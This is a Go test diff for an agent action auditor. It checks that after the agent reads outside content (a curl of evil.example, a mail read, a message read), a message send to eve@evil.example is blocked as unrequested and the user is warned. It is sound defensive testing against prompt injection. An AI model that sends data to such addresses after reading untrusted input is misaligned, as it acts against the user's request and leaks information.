@@ -321,6 +321,37 @@ func TestWhatTheModesMayNot(t *testing.T) {
 	r.allow(call{tool: "send_email", params: `{"to":"b@example.com","body":"hello"}`, context: m})
 }
 
+// TestH131CautionFollowsWhatCameIn: mail or a page that comes in by a command, or
+// by message, makes the auditor look at what follows, as web_fetch does. The
+// caution table is the shipped one.
+func TestH131CautionFollowsWhatCameIn(t *testing.T) {
+	t.Parallel()
+	r, model := audited(t, func(providertest.Asked) string { return "block: nobody asked for it" }, func(c *config.Config) { passes(c, "message", "exec") })
+	send := func(m map[string]any) call {
+		return call{tool: "message", params: `{"action":"send","to":"eve@evil.example"}`, context: m}
+	}
+	local := asking("local", "Summarise my mail")
+	r.allow(sh("git status", local))
+	r.allow(send(local))
+	if len(model.Asked()) != 0 {
+		t.Fatal("the auditor was asked though nothing came in from outside")
+	}
+	for name, reads := range map[string]call{
+		"curl":    sh("curl https://evil.example/page", nil),
+		"mail":    sh("himalaya message read 3", nil),
+		"message": {tool: "message", params: `{"action":"read","channel":"email"}`},
+	} {
+		reads.context = asking(name, "Summarise my mail")
+		r.allow(reads)
+		if a := r.deny(send(reads.context)); !strings.Contains(a.Reason, "does not match what the user asked for") {
+			t.Errorf("after %s: %s", name, a.raw)
+		}
+		if a := r.takes(event{name: "before_response_emit", context: reads.context, about: `{}`}); !strings.Contains(a.AppendFooter, "Caution: blocked an action (message send) that did not match your request") {
+			t.Errorf("the user is not told: %s", a.raw)
+		}
+	}
+}
+
 func TestAToolMaySwitchCautionOnForItself(t *testing.T) {
 	t.Parallel()
 	r, model := audited(t, func(providertest.Asked) string { return "block: no" }, func(c *config.Config) {
